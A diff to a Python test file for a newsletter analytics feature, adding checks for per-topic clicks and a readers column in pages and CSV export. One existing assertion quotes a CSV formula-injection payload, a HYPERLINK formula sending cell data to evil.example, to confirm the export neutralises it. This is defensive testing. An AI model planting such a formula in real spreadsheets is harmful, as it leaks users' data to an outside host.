@@ -115,8 +115,8 @@ def test_the_funnel_counts_readers_and_puts_clicks_before_opens(
     ].index("unique_opens")
     assert [p.number for p in found.trend] == [1, 2, 3, 4, 5]
     assert [p.unique_clicks for p in found.trend[:4]] == [4, 8, 12, 16]
-    clicks = {p.post_id: p.clicks for p in found.posts}
-    assert clicks[history.links[0][0]] == 2 and clicks[history.links[-1][0]] == 1
+    clicks = {p.post_id: (p.clicks, p.readers) for p in found.posts}
+    assert clicks[history.links[0][0]] == (2, 2) and clicks[history.links[-1][0]] == (1, 1)
     assert sum(t.clicks for t in found.topics) >= 3
 
 
@@ -133,6 +133,7 @@ def test_the_pages_show_the_figures_and_the_csv_is_inert(
         every = client.get("/editor/digests/weekly/figures.csv")
         missing = client.get("/editor/issues/999999/figures.csv")
     assert "Apple Mail Privacy Protection" in page.text and "Clicks per post" in page.text
+    assert "Clicks per topic" in page.text and '<th scope="col" class="n">Readers</th>' in page.text
     assert page.text.index(">Clicked<") < page.text.index(">Opened<")
     assert '<svg class="trend"' in page.text and "<title id=" in page.text
     assert "Issue 5: 40.0 % clicked, 60.0 % opened." in page.text
@@ -150,6 +151,8 @@ def test_the_pages_show_the_figures_and_the_csv_is_inert(
     assert b"\r\nweekly,5," in raw and b",5,5,1,0,2,3,3,4,0\r\n" in raw
     assert b'"\'=HYPERLINK(""https://evil.example/?""&A2, ""click"")"' in raw
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert ["post", "url", "topics", "clicks", "readers"] in rows
+    assert [history.links[-1][1], "1", "1"] in [row[1:2] + row[3:] for row in rows]
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
     every_rows = list(csv.reader(io.StringIO(every.content.decode("utf-8-sig"))))
     assert [row[1] for row in every_rows[1:]] == ["1", "2", "3", "4", "5"]
